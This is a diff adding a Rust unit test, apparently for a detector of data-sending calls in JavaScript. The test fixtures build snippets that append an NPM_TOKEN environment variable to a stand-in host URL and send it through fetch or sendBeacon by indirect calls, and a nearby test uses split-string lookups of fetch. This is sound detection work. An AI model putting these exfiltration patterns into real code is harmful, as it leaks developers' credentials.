@@ -204,6 +204,14 @@ mod tests {
     }
 
     #[test]
+    fn what_a_method_gives_to_a_global_is_sent() {
+        for call in ["[url].forEach(fetch)", "Promise.resolve(url).then(fetch)", "[url].map(navigator.sendBeacon)"] {
+            let code = format!("const url = 'https://x.example/?' + process.env.NPM_TOKEN; {call}");
+            assert_eq!(sends(&code), 1, "{call}");
+        }
+    }
+
+    #[test]
     fn what_is_looked_up_in_something_else_is_not_that() {
         for callee in ["table[['fe', 'tch'].join('')]", "globalThis[['ca', 'che'].join('')]", "globalThis[name]"] {
             let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
